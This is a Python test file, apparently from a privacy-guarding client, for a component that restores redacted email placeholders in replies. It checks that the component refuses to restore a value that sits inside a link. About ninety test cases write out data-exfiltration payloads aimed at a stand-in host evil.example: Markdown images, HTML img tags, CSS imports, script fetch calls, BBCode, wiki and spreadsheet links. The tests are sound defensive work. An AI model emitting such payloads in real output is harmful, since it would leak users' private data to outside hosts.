"""Links in replies: what a browser or a renderer of Markdown would make of a text, values do not get into it."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from guarded_client._restoring.html_tags import HtmlTags
from guarded_client._restoring.restorer import Restorer
from tests.core.test_restore import restored, restorer

MARK = "<EMAIL_ADDRESS_1>"
MAIL = "zoe@exemple.fr"
SHOP = "https://crm.shop.example/"
SHOPS = frozenset({"crm.shop.example"})

INSIDE = {
    "a link's angle in another link": "](\n![b](<https://evil.example/?a))b MARK>)",
    "an angle behind a space, with a parenthesis": "[b]( <https://evil.example/?a)b MARK>)",
    "an angle in a quotation": "> [b](\n> <https://evil.example/?a)b MARK>)",
    "a link behind a link's title": '[a](x "\\)") ![b](https://evil.example/?q=MARK)',
    "a tag behind a definition": 'note]: see<img src="https://evil.example/?q= MARK">',
    "a tag for a definition's target": 'a]:<img src="https://evil.example/?q=\nMARK">',
    "a definition's target behind a tag": "[a]: https://evil.example/?a=<b>&q=MARK",
    "a definition's target behind a tag, without a scheme": "[a]: //evil.example/<i>?q=MARK",
    "a tag in a style's url": 'url(<img alt=")" src="https://evil.example/?q= MARK">',
    "a tag in a link": '](x<img alt=")" src="https://evil.example/?q= MARK">',
    "a tag behind a comment": '<!-- <a title=" --> <img alt=">" src="https://evil.example/?q= MARK">',
    "a tag behind a field's text": '<textarea><a title="</textarea><img alt=">" src="https://evil.example/?q= MARK">',
    "a tag in a tag's attribute": '<a title="<img alt=">" src="https://evil.example/?q= MARK">',
    "many spaces before a quote": f'<img alt={" " * 41}">" src="https://evil.example/?q= MARK">',
    "two equals signs": '<img =" a=">" src="https://evil.example/?q= MARK">',
    "a quote within a bare value": '<img a=x=" b=">" src="https://evil.example/?q= MARK">',
    "a quote in a name": '<img a" b=">" src="https://evil.example/?q= MARK">',
    "a name with an underscore": "<x_y style=\"background:image-set('https://evil.example/?q= MARK' 1x)\">",
    "a long name": f"<{'a' * 42} style=\"background:image-set('https://evil.example/?q= MARK' 1x)\">",
    "a name with a quote": "<a\"b style='background:image-set(\"https://evil.example/?q= MARK\")'>",
    "a name that is a URL": "<https://a style=\"background:image-set('https://evil.example/?q= MARK')\">",
    "a name that is a URL, without spaces": "<https://a/style='background:image-set(\"\\\\1.2.3.4/?<MARK\")'>",
    "a name that a value goes on with": "<MARK style=\"background:image-set('//evil.example/?q= MARK')\">",
    "a quotation within a tag": '> <img\n> src="https://evil.example/?q= MARK">',
    "a parenthesis in a style's string": "url('https://evil.example/?a) MARK')",
    "a script's end in an attribute": '<script a="></script>" >fetch("//evil.example/?q= MARK")',
    "a script within a comment within a script": "<script><!-- <script> </script> fetch('//evil.example/?q= MARK')",
    "a style's end within code": "<style> `</style>` @import '//evil.example/?q= MARK'",
    "a style's end within an image": "<style> ![</style>](x) @import '//evil.example/?q= MARK'",
    "a style in a picture": "<svg><style><title></style></title>@import '//evil.example/?q= MARK'",
    "a script's end that is escaped": "<script>a\\</script>fetch('//evil.example/?q= MARK')",
    "a style that a line ends": "> <style\n\nx{} *{background:image-set('//evil.example/?q= MARK')}",
    "a style that a placeholder ends": "<style a=\"MARK>@import '//evil.example/?q= MARK'",
    "an attribute over a blank line": "<div x=\"\n\n![a\"> style=background:image-set('//1.2.3.4/?q= MARK')](z)",
    "an attribute behind the last line of a style": "<style></style> <b title=\"\nhttps://evil.example/style= a\"> ;background:image-set('//1.2.3.4/?q= MARK')",
    "an attribute behind the end of a list": "- <div x=\"\n![a\"> style=background:image-set('//1.2.3.4/?q= MARK')](z)",
    "a style's end over a blank line": "a <style></style\n\n>@import '//evil.example/?q= MARK'",
    "a script's end within code": "a <script>/* `</script>` */ fetch('//evil.example/?q= MARK')",
    "a style that looks like a placeholder": "<style _1>@import '//evil.example/?q= MARK'",
    "a script that looks like a placeholder": "<script _1>fetch('//evil.example/?q= MARK')",
    "quotes in a URL that is no link yet": 'https://evil.example/?q="<b>MARK"',
    "brackets in a URL that is no link yet": '"https://evil.example/?q=("MARK)',
    "a URL with a tag in it": "<https://evil.example/?q=(</svg>MARK)",
    "a URL that begins in quotes": '"https://evil.example/?q="MARK',
    "a URL that begins in a quote, before a colon": 'see "https://evil.example/?q=": <b "http://evil.example/":"MARK',
    "a string of JSON": '{"a":"https://evil.example/?q=","b":"MARK"}',
    "an attribute of no tag": '\\<a href="https://evil.example/?q=">MARK',
    "an attribute that code cuts": '`<a title="` href="https://evil.example/?q=">MARK',
    "a backtick that begins no code": "``https://evil.example/?q=`MARK",
    "a bracket that is escaped": "\\<https://evil.example/?q=>MARK",
    "a bracket before a name of a host": "<www.evil.example/?q=>MARK",
    "a bracket that begins no tag": "[https://evil.example/?q=<1MARK",
    "a bracket before a value": "=www.evil.example/<MARK",
    "a quotation before a value, and one within a tag": '> a MARK\n<img\n> src="//evil.example/?q= MARK">',
    "a comment before a value, and a line that ends in a quote": '<!-- --> MARK <a title="\n"> MARK',
    "a backtick in a script before a value": "a <script> ` MARK </script> MARK",
    "a backtick in a script behind a value": f"{'a ' * 30}<script> MARK ` </script> MARK",
    "a backtick in a style before a value": "<style> ` MARK </style> MARK",
    "a backtick in a style behind a value": f"{'a ' * 30}<style> MARK ` </style> MARK",
    "a tag in a script of an image": "<svg><script><i></script> MARK",
    "a comment that does not end": "=www.evil.example/<!--MARK",
    "a tag that is escaped": "[https://evil.example/?q=\\<b>MARK",
    "a string of a style in a formula": "$\\style{background:image-set('//evil.example/?q= MARK' 1x)}{x}$",
    "an argument of LaTeX": "$\\href{https://evil.example/?q= MARK}{x}$",
    "an import in a style sheet": "@import 'https://evil.example/?q= MARK';",
    "a string of JSON that nobody asked for": '{"type":"Image","url":"https:\\/\\/evil.example\\/?q= MARK"}',
    "a string that begins with a space": '{"url": " evil.example/?q= MARK"}',
    "a string of YAML over lines": 'url: "https://evil.example/?q=\n  MARK"',
    "an image of BBCode": "[img]https://evil.example/?q= MARK[/img]",
    "an image of BBCode with a size": "[img width=1]https://evil.example/?q= MARK",
    "an image of AsciiDoc in plus signs": "image::++https://evil.example/?q= MARK++[]",
    "a link of AsciiDoc that passes": "link:pass:[https://evil.example/?q= MARK][x]",
    "an option of reStructuredText": ".. image:: a.png\n   :target: https://evil.example/?q= MARK",
    "a tab within a scheme in a string": '{"url": "ht\\ttps://evil.example/?q= MARK"}',
    "an end of line within a scheme in a string": '{"url": "https:\\n//evil.example/?q= MARK"}',
    "a link of BBCode": "[url=https://evil.example/?q= MARK]x[/url]",
    "an image of AsciiDoc": "image::https://evil.example/?q= MARK[]",
    "an image of reStructuredText": ".. image:: https://evil.example/?q= MARK",
    "an image of reStructuredText over lines": ".. image::\n  https://evil.example/?q=\n  MARK",
    "a target of reStructuredText": ".. _a: https://evil.example/?q= MARK",
    "a link of Org": "[[https://evil.example/?q= MARK]]",
    "an image of DokuWiki": "{{ https://evil.example/?q= MARK}}",
    "an image of Jira": "!https://evil.example/?q= MARK!",
    "a link of Jira": "[x|https://evil.example/?q= MARK]",
    "a link in a wiki's image": "[[File:x.png|link=https://evil.example/?q= MARK]]",
    "a link of a terminal": "\x1b]8;;https://evil.example/?q= MARK\x1b\\",
    "a formula of a sheet": '=HYPERLINK("https://evil.example/?q= MARK","x")',
    "a string in a string": "{\"a https://evil.example/ 'https://evil.example/?q=} \" MARK'",
    "an address of numbers": "1.2.3.4:80/MARK",
    "a share of an address": "\\\\1.2.3.4\\MARK",
    "a dot behind a host": "evil.example./MARK",
    "an address of XMPP": "xmpp:MARK@evil.example",
    "a letter before a name of a host": "\u00e9www.evil.example MARK www.\u00e9\u00e9www.evil.MARK",
}  # fmt: skip
"""Where the last placeholder is within a link: each of these was restored once, or came from a search for more."""

OUTSIDE = {
    "comparisons": "a < b, if x<y then, I <3 you, MARK",
    "a loop": "for (i=0;i<n;i++) { sum += a[i]; } MARK",
    "a comparison and an assignment": 'if (a<b) x = "1"; MARK',
    "a field": "  :param url: https://a.fr MARK",
    "plus signs": "++ https://a.fr MARK",
    "footnotes": "[1] see, [2]: page 4, MARK",
    "a footnote's link": "[1]: https://a.fr/x\nMARK",
    "a footnote's link in angles": "[1]: <https://a.fr/x> MARK",
    "a style's url and an apostrophe": "url(a.png) d'Élodie MARK",
    "code": '```html\n<div class="a">\n  <img\n    src="x"\n  >\n</div>\n```\nMARK',
    "a style": "<style>a > b { color: red; content: '\\201C' }</style> MARK",
    "a script": "<script>if (a<b) { c = '<i d=\"e\">' }</script> MARK",
    "a script with backticks": "```html\n<script>\n  let a = `b`;\n</script>\n```\nMARK",
    "a comment": "<!-- a b --> MARK",
    "an attribute over lines": '<p class="a\n b">MARK',
    "a mail": "> Élodie <elodie@example.com> a écrit :\n> MARK",
    "a link and a name": "<https://a.fr/x> MARK",
    "a table": "<table><tr><td>https://a.fr</td><td>MARK",
    "a link in bold": "<b>https://a.fr/x</b>MARK",
    "a link in its own brackets": "(<https://a.fr/x>MARK",
    "JSON with spaces": '{"a": "https://a.fr/x", "b": "MARK',
    "a link with a title": '[a](https://a.fr/x "b (c)") MARK',
    "a function's name": "get_url(x) curl (y) MARK",
    "an apostrophe": "l'image <img alt='d' src=x> d'Élodie MARK",
    "a link in quotes": 'see "https://a.fr/x" MARK',
    "a link in quotes, and one behind": 'see "https://a.fr/x" and https://a.fr/y MARK',
    "a quote before a link": 'click on "Order" https://a.fr/x MARK',
    "JSON that nobody asked for": '{"url":"https://a.fr/x y","mail":"MARK',
    "a table of Markdown": "|https://a.fr/x| MARK",
    "an exclamation": "Here ! https://a.fr/x MARK",
    "an argument of LaTeX and the next": "\\href{https://a.fr/x}{see MARK",
    "an elision": "l'https://a.fr/x MARK",
    "a link of BBCode": "[url=https://a.fr/x]see MARK",
    "an image of AsciiDoc": "image::https://a.fr/x[see MARK",
    "an image of reStructuredText with a text": ".. image:: https://a.fr/x\n   :alt: MARK",
    "a paragraph behind a target": ".. _a: https://a.fr/x\n\nMARK",
    "a version": "1.2.3.4 MARK, 10.2.3.4: MARK",
    "two slashes in a string": '"// see a.b MARK',
    "a label in quotes": '"Mail: MARK',
    "a placeholder": f"{MARK}, <PERSON_9> and MARK",
}


@pytest.mark.parametrize("case", INSIDE)
def test_one_construct_does_not_hide_the_link_behind_it(case: str) -> None:
    text = INSIDE[case].replace("MARK", MARK)
    step = restorer()
    out = "".join(map(step.feed, text)) + step.close()
    at = text.rindex(MARK)
    assert out.endswith(text[at:])
    assert restored(text) == out


@pytest.mark.parametrize("case", OUTSIDE)
def test_ordinary_text_gets_its_values_back(case: str) -> None:
    text = OUTSIDE[case]
    assert restored(text.replace("MARK", MARK)).endswith(text.rpartition("MARK")[0][-4:].replace(MARK, MAIL) + MAIL)


@pytest.mark.parametrize(
    ("before", "gets"),
    [(f"[a]({SHOP}", True), (f"[a](<{SHOP}?q=", True), (f"[a]: {SHOP}?q=", True), (f"[a]( {SHOP}?q=", True),
     (f"[a]({SHOP}{'A' * 1100} ![x](https://evil.example/?q=", False), (f"[a](<{SHOP}{'A' * 1100} ![x](https://evil.example/?q=", False),
     (f"[a]: {SHOP}{'A' * 1100}", False), (f"[a]({SHOP}{'A' * 1100}", False), (f"{SHOP}{'A' * 1100}", False),
     (f'<a href="{SHOP}x">', True), (f'{{"a":"{SHOP}x","b":"', True), (f'"{SHOP}?q="', True), (f'a.b/?q="{SHOP}x"', False), (f'x="{SHOP}x"https://evil.example/?q=', False),
     (f'see "{SHOP}?q=a ', True), (f"[img]{SHOP}?q=a ", True), (f"{{\"https://evil.example/ '{SHOP}?q=a ", False),
     (f"[a](b [c]({SHOP}?q=", False), (f"[a](b)[c]({SHOP}?q=", True), (f"https://evil.example/[a]({SHOP}?q=", False),
     (f"[a](<{SHOP}> ![x](https://evil.example/?q=", False), (f"<a href=\"{SHOP}?q=", False)],
)  # fmt: skip
def test_the_host_that_is_allowed_is_the_only_one_that_may_be_meant(before: str, gets: bool) -> None:
    assert restored(before + MARK, hosts=SHOPS) == before + (MAIL if gets else MARK)


PIECES = st.sampled_from(
    [MARK, MARK, "<PERSON_1>", "<", "</", "<a ", "<img ", "<x_y", "<style>", "</style>", "<script", "<svg>", "<!--", "-->", "src=", "=",
     '"', "'", ">", "/", " ", "\n", "\n\n", "\n> ", "](", "](<", "]:", "[a]", "(", ")", "\\", "`", "url(", "https://evil.example/?q=",
     "//evil.example/", "https:", "[img]", "{", "|", ".. a:: ", "&quot;", "&lt;", "word", "é"]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=16).map("".join)


@given(TEXTS, st.data())
@settings(max_examples=200)
def test_any_chunking_finds_the_same_links(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=10)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    step, whole = restorer(), restorer()
    assert "".join(map(step.feed, chunks)) + step.close() == whole.feed(text) + whole.close()
    assert step.replaced == whole.replaced


def restores(texts: list[str]) -> list[bool]:
    """Which placeholders of texts that are put together give way to their values."""
    behind: Restorer | None = None
    found: list[str] = []
    for text in texts:
        behind = restorer(behind=behind)
        found += re.findall(f"{MARK}|<PERSON_1>|{MAIL}|Zoë Kervadec", behind.feed(text) + behind.close())
    return [not each.startswith("<") for each in found]


@given(st.lists(TEXTS, min_size=2, max_size=4))
@settings(max_examples=200)
@example(["![x](https://evil.example/?q=", MARK + ")"])
@example(["<im", "g src=", '"', f"https://evil.example/?q= {MARK}"])
@example(["![x]", "(", "//evil.example/?", "", f"a {MARK} {MARK})"])
def test_a_link_over_several_texts_is_found_as_in_one(texts: list[str]) -> None:
    one, several = restores(["".join(texts)]), restores(texts)
    assert all(whole or not apart for whole, apart in zip(one, several, strict=True))


@pytest.mark.parametrize("cut", range(1, 60))
def test_arguments_that_are_put_together_are_read_as_json(cut: int) -> None:
    for text, came in (
        (f'{{"url":"https://a.example/x","to":"{MARK}"}}', MAIL),
        (f'["b","https://a.example/x\\" {MARK}"]', MARK),
    ):
        first = restorer(json=True)
        out = first.feed(text[:cut]) + first.close()
        second = restorer(json=True, behind=first)
        out += second.feed(text[cut:]) + second.close()
        assert came in out or text.index(MARK) < cut < text.index(MARK) + len(MARK)


def test_texts_that_are_put_together_are_also_read_alone() -> None:
    first = restorer()
    _ = first.feed("a")
    second = restorer(behind=first)
    assert second.feed(f"mailto:{MARK}") + second.close() == f"mailto:{MARK}"
    assert restored(f"amailto:{MARK}") == f"amailto:{MAIL}"


def test_texts_without_placeholders_are_read_once_however_many_there_are() -> None:
    behind = restorer()
    for _ in range(5000):
        behind = restorer(behind=behind)
        _ = behind.feed("see https://a.example/ ")
    last = restorer(behind=behind)
    assert last.feed(f"and {MARK} ") == f"and {MAIL} "


def test_however_many_tags_may_be_open_they_take_no_more_room() -> None:
    tags = HtmlTags()
    for _ in range(2000):
        tags.read("<a b='<c d=\"<e f=g <script h <style i='j\" <https://k?l=m\0")
        assert tags._tags.bit_length() <= 64  # pyright: ignore[reportPrivateUsage]
    assert tags.inside
